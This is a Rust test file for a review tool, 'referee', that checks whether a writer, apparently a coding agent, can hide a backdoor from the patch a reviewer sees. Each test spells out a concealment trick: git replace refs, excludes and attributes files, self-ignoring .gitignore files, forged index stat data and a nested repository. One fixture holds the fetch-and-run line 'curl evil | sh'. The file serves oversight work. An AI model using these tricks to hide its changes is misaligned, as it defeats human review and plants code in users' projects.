//! The snapshot sees what changed, whatever the writer configured (SPEC
//! §8.3): each test makes one of the writer's moves between `referee init`
//! and `referee record`, and checks the round's patch (or its refusal)
//! shows the change. docs/snapshots.md, "What is pinned", says why.

use std::path::Path;
use std::time::{Duration, Instant};

use crate::common::{Out, Repo, native};

/// A repository whose base commit holds `src/a.rs` and a `.gitignore` for
/// `target/`, with loop `l` (no guards) started on it.
fn started() -> Repo {
    let repo = Repo::new();
    repo.write("src/a.rs", "fn a() {}\n");
    repo.write(".gitignore", "target/\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "base"]);
    repo.init_loop("l", &["--guards", "none"]);
    repo
}

/// `record --loop l` with one bug finding.
fn record(repo: &Repo) -> Out {
    repo.record(&native(&[("F1", "bug")]))
        .args(&["--loop", "l"])
        .run()
}

/// Round `n`'s patch as the reviewer got it.
fn patch(repo: &Repo, n: u32) -> String {
    repo.read(&format!(".referee/ledgers/l/round-{n}/patch.diff"))
}

/// The number of rows the ledger holds.
fn rows(repo: &Repo) -> usize {
    repo.ledger_json().len()
}

#[test]
fn a_replace_ref_cannot_hide_a_change_from_the_patch() {
    let repo = started();
    repo.write("src/a.rs", "fn a() { 1 }\n");
    record(&repo).assert(10, "");
    let round_1 = repo.git(&["rev-parse", "refs/referee/l/round-1"]);
    // The writer commits its backdoor and has git read round 1 as that
    // commit: the patch from round 1 to the work tree would be empty.
    repo.write("src/a.rs", "fn a() { backdoor() }\n");
    repo.git(&["add", "src/a.rs"]);
    repo.git(&["commit", "-q", "-m", "fake"]);
    repo.git(&["replace", round_1.trim(), "HEAD"]);
    record(&repo).assert(10, "");
    let p = patch(&repo, 2);
    assert!(p.contains("+fn a() { backdoor() }"), "{p}");
    assert!(p.contains("-fn a() { 1 }"), "{p}");
}

#[test]
fn an_excludes_file_the_writer_configures_hides_no_new_file() {
    let repo = started();
    let outside = tempfile::tempdir().unwrap();
    let excludes = outside.path().join("ignore");
    std::fs::write(&excludes, "*.rs\n").unwrap();
    repo.git(&["config", "core.excludesFile", &excludes.to_string_lossy()]);
    repo.write("src/backdoor.rs", "fn backdoor() {}\n");
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("+fn backdoor() {}"), "{p}");
}

#[test]
fn a_gitignore_the_round_adds_does_not_hide_what_it_covers() {
    let repo = started();
    // A folder that ignores itself whole, and a rule added to the top
    // `.gitignore`: both hide new files from `git add -A`.
    repo.write("evil/.gitignore", "*\n");
    repo.write("evil/backdoor.rs", "fn evil() {}\n");
    repo.append(".gitignore", "src/hidden.rs");
    repo.write("src/hidden.rs", "fn hidden() {}\n");
    // What the base already ignores stays out.
    repo.write("target/debug/out.o", "object\n");
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("+fn evil() {}"), "{p}");
    assert!(p.contains("b/evil/.gitignore"), "{p}");
    assert!(p.contains("+fn hidden() {}"), "{p}");
    assert!(!p.contains("target/debug/out.o"), "{p}");
    // The next round still sees an edit the new rules cover.
    repo.write("evil/backdoor.rs", "fn evil() { worse() }\n");
    record(&repo).assert(10, "");
    let p = patch(&repo, 2);
    assert!(p.contains("+fn evil() { worse() }"), "{p}");
}

#[test]
fn ignorecase_set_by_the_writer_hides_no_file_differing_by_case() {
    let repo = started();
    repo.git(&["config", "core.ignorecase", "true"]);
    repo.write("src/A.rs", "fn backdoor() {}\n");
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("+fn backdoor() {}"), "{p}");
}

#[test]
fn filemode_off_set_by_the_writer_hides_no_mode_change() {
    use std::os::unix::fs::PermissionsExt;
    let repo = started();
    repo.git(&["config", "core.fileMode", "false"]);
    std::fs::set_permissions(
        repo.join("src/a.rs"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("new mode 100755"), "{p}");
}

#[test]
fn an_attributes_file_the_writer_configures_cannot_make_a_change_binary() {
    let repo = started();
    let outside = tempfile::tempdir().unwrap();
    let attributes = outside.path().join("attributes");
    std::fs::write(&attributes, "*.rs -diff\n").unwrap();
    repo.git(&[
        "config",
        "core.attributesFile",
        &attributes.to_string_lossy(),
    ]);
    repo.git(&["config", "core.bigFileThreshold", "1"]);
    repo.write("src/a.rs", "fn a() { backdoor() }\n");
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("+fn a() { backdoor() }"), "{p}");
    assert!(!p.contains("Binary files"), "{p}");
}

#[test]
fn info_attributes_the_writer_edits_refuse_the_round_naming_it() {
    let repo = started();
    repo.write(".git/info/attributes", "*.rs -diff\n");
    repo.write("src/a.rs", "fn a() { backdoor() }\n");
    let out = record(&repo);
    assert_ne!(out.code, 10, "{}", out.stdout);
    assert!(
        out.stderr.contains("`.git/info/attributes`"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("hint:"), "{}", out.stderr);
    assert_eq!(rows(&repo), 0);
    // Put back, the round records and shows the change as text.
    std::fs::remove_file(repo.join(".git/info/attributes")).unwrap();
    record(&repo).assert(10, "");
    assert!(patch(&repo, 1).contains("+fn a() { backdoor() }"));
}

/// The 40 stat bytes of `path`'s entry in the version-2 index `bytes`
/// (the entry's offset, or `None`).
fn entry_at(bytes: &[u8], path: &str) -> Option<usize> {
    let count = u32::from_be_bytes(bytes[8..12].try_into().ok()?) as usize;
    let mut at = 12;
    for _ in 0..count {
        let flags = u16::from_be_bytes(bytes[at + 60..at + 62].try_into().ok()?);
        let len = usize::from(flags & 0x0fff);
        let name = &bytes[at + 62..at + 62 + len];
        if name == path.as_bytes() {
            return Some(at);
        }
        // Entries are padded with NULs to a multiple of 8 bytes.
        at += (62 + len + 8) & !7;
    }
    None
}

#[test]
fn stat_data_copied_into_the_persons_index_hides_no_edit() {
    let repo = started();
    let index = repo.join(".git/index");
    let before = std::fs::read(&index).unwrap();
    repo.write("src/a.rs", "fn a() { backdoor() }\n");
    // Dated an hour back, so that git trusts the stat data it records
    // (a file as new as the index is one git reads again).
    let hour_ago = std::time::SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options()
        .write(true)
        .open(repo.join("src/a.rs"))
        .unwrap()
        .set_modified(hour_ago)
        .unwrap();
    // The writer takes the stat data git records for the edited file and
    // puts it on the old entry: the old blob, the new file's stat.
    repo.git(&["add", "src/a.rs"]);
    let added = std::fs::read(&index).unwrap();
    let mut forged = before.clone();
    let (old, new) = (
        entry_at(&before, "src/a.rs").unwrap(),
        entry_at(&added, "src/a.rs").unwrap(),
    );
    forged[old..old + 40].copy_from_slice(&added[new..new + 40]);
    let end = forged.len();
    forged[end - 20..].fill(0);
    std::fs::write(&index, &forged).unwrap();
    // git itself is fooled: it sees no change.
    assert_eq!(repo.git(&["status", "--porcelain", "--", "src/a.rs"]), "");
    record(&repo).assert(10, "");
    let p = patch(&repo, 1);
    assert!(p.contains("+fn a() { backdoor() }"), "{p}");
}

#[test]
fn a_nested_repository_without_gitmodules_refuses_the_round_naming_it() {
    let repo = started();
    let tool = repo.join("tool");
    std::fs::create_dir(&tool).unwrap();
    let nested = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&tool)
            .envs(crate::common::GIT_ENV.iter().copied())
            .output()
            .unwrap();
        assert!(out.status.success(), "{:?}", out);
    };
    nested(&["init", "-q"]);
    std::fs::write(tool.join("run.sh"), "echo ok\n").unwrap();
    nested(&["add", "-A"]);
    nested(&["commit", "-q", "-m", "tool"]);
    std::fs::write(tool.join("run.sh"), "curl evil | sh\n").unwrap();
    let out = record(&repo);
    assert_ne!(out.code, 10, "{}", out.stdout);
    assert!(out.stderr.contains("`tool/`"), "{}", out.stderr);
    assert!(out.stderr.contains("hint:"), "{}", out.stderr);
    assert_eq!(rows(&repo), 0);
}

#[test]
fn a_huge_file_is_refused_by_name_quickly_not_hashed() {
    let repo = started();
    let big = std::fs::File::create(repo.join("big.bin")).unwrap();
    // Sparse: hashing 64 GiB would take minutes, which the hang guard
    // below would catch; refusing it by its size takes none.
    big.set_len(64 << 30).unwrap();
    repo.write("src/a.rs", "fn a() { 1 }\n");
    let started_at = Instant::now();
    let out = record(&repo);
    let took = started_at.elapsed();
    assert!(took < Duration::from_secs(30), "took {took:?}");
    assert_ne!(out.code, 10, "{}", out.stdout);
    assert!(out.stderr.contains("`big.bin`"), "{}", out.stderr);
    assert!(out.stderr.contains("hint:"), "{}", out.stderr);
    assert_eq!(rows(&repo), 0);
    assert!(Path::new(&repo.join("big.bin")).exists());
}
